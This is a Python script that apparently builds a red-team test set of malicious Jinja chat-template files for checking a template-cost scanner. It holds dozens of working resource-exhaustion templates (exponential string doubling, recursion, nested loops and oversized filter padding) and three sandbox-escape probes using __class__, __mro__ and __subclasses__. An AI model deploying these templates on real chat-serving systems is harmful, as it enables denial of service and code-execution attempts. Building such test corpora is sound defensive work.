# ruff: noqa: E501
"""tpl21's attack round on chat-template cost (written before any scanner run on them):
.jinja files into the current directory. Oracle: bench/rt20tpl/orc.sh FILE 20 2000 60."""

A = {}
MAC = "{% macro rep() %}{% for i in range(40) %}{{ caller() }}{% endfor %}{% endmacro %}"
# namespace doubling outside a loop: a call block's body run 40 times, a recursion 40 deep
A["cb_ns_double"] = "{% set ns = namespace(s='ab') %}" + MAC + "{% call rep() %}{% set ns.s = ns.s ~ ns.s %}{% endcall %}{{ ns.s|length }}"
A["cb_ns_alias"] = "{% set ns = namespace(s='ab', t='') %}" + MAC + "{% call rep() %}{% set ns.t = ns.s %}{% set ns.s = ns.t ~ ns.t %}{% endcall %}{{ ns.s|length }}"
A["rec_ns_double"] = "{% set ns = namespace(s='ab') %}{% macro f(n) %}{% if n > 0 %}{% set ns.s = ns.s ~ ns.s %}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(40) }}{{ ns.s|length }}"
A["rec_ns_msgs"] = "{% set ns = namespace(s='ab') %}{% macro f(n) %}{% if n > 0 %}{% set ns.s = ns.s ~ ns.s %}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(messages|length * 2) }}{{ ns.s|length }}"
A["loop_cb_double"] = "{% set ns = namespace(s='ab', t='') %}{% macro rep() %}{% for i in range(3) %}{{ caller() }}{% endfor %}{% endmacro %}{% for m in messages %}{% set ns.t = m.content %}{% call rep() %}{% set ns.s = ns.t %}{% set ns.t = ns.s ~ ns.s %}{% endcall %}{% endfor %}{{ ns.t|length }}"
# varargs / kwargs carry what the call passes
A["varargs_print"] = "{% macro r() %}{{ varargs[0] }}{% endmacro %}{% set a = 'x' * 900000 %}{% for i in range(1500) %}{{ r(a) }}{% endfor %}"
A["kwargs_print"] = "{% macro r() %}{{ kwargs.c }}{% endmacro %}{% set a = 'x' * 900000 %}{% for i in range(1500) %}{{ r(c=a) }}{% endfor %}"
A["varargs_loops"] = "{% macro w() %}{% for a in varargs[0] %}{% for b in varargs[0] %}.{% endfor %}{% endfor %}{% endmacro %}{{ w(range(20000)) }}"
# macro parameter scoping
A["param_nested_macro"] = "{% macro outer(xs) %}{% macro inner() %}{% for a in xs %}{% for b in xs %}.{% endfor %}{% endfor %}{% endmacro %}{{ inner() }}{% endmacro %}{{ outer(range(20000)) }}"
A["param_callblock_body"] = "{% macro w(xs) %}{{ caller() }}{% endmacro %}{% set xs = range(20000) %}{% call w(1) %}{% for a in xs %}{% for b in xs %}.{% endfor %}{% endfor %}{% endcall %}"
A["param_caller_arg"] = "{% macro w(xs) %}{{ caller(xs) }}{% endmacro %}{% call(ys) w(range(20000)) %}{% for a in ys %}{% for b in ys %}.{% endfor %}{% endfor %}{% endcall %}"
A["param_redefined"] = "{% macro w(xs) %}{% endmacro %}{% macro w(xs) %}{% for a in xs %}{% for b in xs %}.{% endfor %}{% endfor %}{% endmacro %}{{ w(range(20000)) }}"
A["param_filter_call"] = "{% macro w(xs) %}{% for a in xs %}{% for b in xs %}.{% endfor %}{% endfor %}{% endmacro %}{{ [range(20000)]|map('list')|map('length')|first }}{% set r = range(20000) %}{{ w(r|list) }}"
# split / join
A["split_join_longer"] = "{% for m in messages %}{{ m.content.split(' ')|join('y' * 100000) }}{% endfor %}"
A["split_join_ws"] = "{% for m in messages %}{{ m.content.split()|join('y' * 100000) }}{% endfor %}"
A["split_join_chain"] = "{% set s = 'ab' * 2000 %}{% for t in ['a', 'b'] %}{% set s = s.split(t)|join(t ~ t ~ t ~ t ~ t ~ t ~ t ~ t) %}{% endfor %}{% for i in range(8) %}{% set s = s.split('a')|join('aa') %}{% endfor %}{{ s|length }}"
A["split_join_ns"] = "{% set ns = namespace(s='ab') %}{% for m in messages %}{% set ns.s = ns.s.split('a')|join('aa') %}{% endfor %}{{ ns.s|length }}"
A["split_join_self"] = "{% set ns = namespace(s='ab ' * 10) %}{% for m in messages %}{% set ns.s = ns.s.split(' ')|join(ns.s) %}{% endfor %}{{ ns.s|length }}"
# counts from message contents
A["range_sum_len"] = "{% for m in messages %}{% for i in range(range(m.content|length)|sum) %}{% endfor %}{% endfor %}"
A["range_count_empty"] = "{% for m in messages %}{% for i in range(m.content.count('')) %}{% for j in range(m.content.count('')) %}{% endfor %}{% endfor %}{% endfor %}"
A["range_loop_length"] = "{% for m in messages %}{% for c in m.content %}{% for i in range(loop.length * loop.length) %}{% endfor %}{% endfor %}{% endfor %}"
A["range_split_len"] = "{% for m in messages %}{% for i in range((m.content.split(' ')|length) ** 2) %}{% for j in range(m.content|length) %}{% endfor %}{% endfor %}{% endfor %}"
A["ns_len_product"] = "{% set ns = namespace(n=1) %}{% for m in messages %}{% set ns.n = ns.n + (m.content|length) * (m.content|length) %}{% endfor %}{% for i in range(ns.n) %}.{% endfor %}"
A["ns_square"] = "{% set ns = namespace(n=3) %}{% for m in messages %}{% set ns.n = ns.n ** 2 %}{% endfor %}{{ ns.n > 5 }}"
A["ns_square_alias"] = "{% set ns = namespace(n=3, k=0) %}{% for m in messages %}{% set ns.k = ns.n %}{% set ns.n = ns.k * ns.k %}{% endfor %}{{ ns.n > 5 }}"
# filters sized by the conversation
A["wordwrap_wrapstring"] = "{% for m in messages %}{{ m.content|wordwrap(1, wrapstring='z' * 30000) }}{% endfor %}"
A["indent_string"] = "{% for m in messages %}{{ m.content|wordwrap(1)|indent('z' * 30000, blank=True) }}{% endfor %}"
A["replace_space"] = "{% for m in messages %}{{ m.content|replace(' ', 'z' * 200000) }}{% endfor %}"
A["format_width_len"] = "{% for m in messages %}{{ ('%' ~ ((m.content|length) ** 2 * 20) ~ 's')|format('a') }}{% endfor %}"
A["format_brace_width"] = "{% for m in messages %}{{ '{:>{w}}'.format('a', w=(m.content|length) ** 2 * 20) }}{% endfor %}"
A["center_len"] = "{% for m in messages %}{{ 'a'|center((m.content|length) * (messages|tojson|length)) }}{% endfor %}"
A["batch_fill"] = "{% for m in messages %}{% for row in m.content|batch(1, 'z' * 100000) %}{{ row|join }}{% endfor %}{% endfor %}"
A["sum_lists"] = "{{ ([[0]] * 100000)|sum(start=[])|length }}"
A["sum_lists_conv"] = "{% set ns = namespace(l=[]) %}{% for m in messages %}{% set ns.l = ns.l + m.content|list %}{% endfor %}{{ (ns.l|map('list')|list * 20)|sum(start=[])|length }}"
# string multiplication
A["mul_content_len"] = "{% for m in messages %}{{ m.content * (messages|tojson|length) }}{% endfor %}"
A["mul_via_list"] = "{% for m in messages %}{{ ([m.content] * (m.content|length) * 20)|join }}{% endfor %}"
# recursion sized by the conversation
A["rec_two_msgs"] = "{% macro f(n) %}{% if n > 0 %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(messages|length + 8) }}"
A["rec_two_slice"] = "{% macro f(s) %}{% if s %}{{ f(s[1:]) }}{{ f(s[1:]) }}{% endif %}{% endmacro %}{{ f(messages[0].content[:40]) }}"
# nested loops
A["nest_tojson_chars"] = "{% set j = messages|tojson %}{% for a in j %}{% for b in j %}{% endfor %}{% endfor %}"
A["nest_item_alias"] = "{% for m in messages %}{% set t = [m.content] %}{% for x in t %}{% for a in x %}{% for m2 in messages %}{% for b in m2.content %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}"
A["nest_mixed_len"] = "{% set xs = [1] %}{% if messages %}{% set xs = messages|tojson %}{% endif %}{% for a in xs %}{% for b in xs %}{% endfor %}{% endfor %}"
# code execution routes (sandbox refuses; plain env would run them)
A["exec_attr_format"] = "{{ (''|attr('format'))('{0.__class__.__mro__[1].__subclasses__}', '') }}"
A["exec_stored_format"] = "{% set f = '{0.__class__}'.format %}{{ f('') }}"
A["exec_cycler_next"] = "{% set c = cycler('a') %}{{ c.next.__self__ }}"

for k, v in A.items():
    open(k + ".jinja", "w").write(v)
print(len(A))
